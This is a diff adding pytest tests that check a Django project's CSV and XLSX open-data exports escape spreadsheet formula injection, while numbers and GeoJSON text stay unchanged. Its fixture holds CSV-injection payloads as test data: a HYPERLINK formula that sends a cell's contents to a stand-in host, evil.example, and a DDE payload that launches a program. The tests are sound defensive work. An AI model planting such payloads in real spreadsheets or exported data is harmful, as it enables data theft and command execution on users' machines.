@@ -3,13 +3,15 @@
 import csv
 import io
 import json
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from projects.models import PilotAction
-from projects.opendata import COLUMN_NAMES
+from projects.models import Partnership, PilotAction
+from projects.opendata import COLUMN_NAMES, escape_formula
+from tests.factories import OrganisationFactory, PartnershipFactory, PilotActionFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -101,3 +103,62 @@ def test_open_data_page_documents_columns_and_licence(client, programme, django_
 def test_list_links_to_the_downloads_with_its_filters(client, programme):
     page = client.get(reverse("projects:pilot-action-list"), {"group": "crisis-management"}).content.decode()
     assert f'href="{reverse("projects:open-data-csv")}?group=crisis-management"' in page
+
+
+# OWASP's CSV injection list: what a spreadsheet program reads as the start of a formula.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.fixture
+def formula_pilot_action(db):
+    """A public pilot action whose text fields start like spreadsheet formulas, west of Greenwich."""
+    pilot_action = PilotActionFactory(
+        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        acronym="+SUM(1,2)",
+        summary="-2+3 households reached",
+        latitude=Decimal("43.2965"),
+        longitude=Decimal("-1.4753"),
+    )
+    lead = OrganisationFactory(name="@cmd|' /C calc'!A0")
+    PartnershipFactory(pilot_action=pilot_action, organisation=lead, role=Partnership.Role.LEAD)
+    return pilot_action
+
+
+def test_the_escape_rule_covers_every_formula_start_and_only_text():
+    for start in FORMULA_STARTS:
+        assert escape_formula(f"{start}1+1") == f"'{start}1+1"
+    assert escape_formula("Flood warning = safety") == "Flood warning = safety"
+    assert escape_formula("") == ""
+    assert escape_formula(-1.4753) == -1.4753
+    assert escape_formula(None) is None and escape_formula(True) is True
+
+
+def test_csv_escapes_formulas_and_keeps_numbers(client, formula_pilot_action):
+    (row,) = read_csv(client.get(reverse("projects:open-data-csv")))
+    assert row["title"] == "'" + formula_pilot_action.title
+    assert row["acronym"] == "'+SUM(1,2)"
+    assert row["summary"] == "'-2+3 households reached"
+    assert row["lead_organisation"] == row["partners"] == "'@cmd|' /C calc'!A0"
+    # A negative longitude is a number, not text: it stays as it is.
+    assert row["longitude"] == "-1.4753" and row["latitude"] == "43.2965"
+
+
+def test_xlsx_holds_text_not_formulas_and_numbers_stay_numbers(client, formula_pilot_action):
+    sheet = load_workbook(io.BytesIO(client.get(reverse("projects:open-data-xlsx")).content)).active
+    header, row = sheet.iter_rows(max_row=2)
+    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
+    assert not [cell.coordinate for cell in row if cell.data_type == "f"]
+    assert cells["title"].value == "'" + formula_pilot_action.title and cells["title"].data_type == "s"
+    assert cells["lead_organisation"].value == "'@cmd|' /C calc'!A0"
+    assert cells["longitude"].value == -1.4753 and cells["longitude"].data_type == "n"
+
+
+def test_geojson_is_not_a_spreadsheet_and_keeps_the_text_as_it_is(client, formula_pilot_action):
+    (feature,) = client.get(reverse("projects:open-data-geojson")).json()["features"]
+    assert feature["properties"]["title"] == formula_pilot_action.title
+    assert feature["properties"]["longitude"] == -1.4753
+
+
+def test_open_data_page_documents_the_formula_escaping(client, db):
+    page = client.get(reverse("projects:open-data")).content.decode()
+    assert "formula" in page and "apostrophe" in page
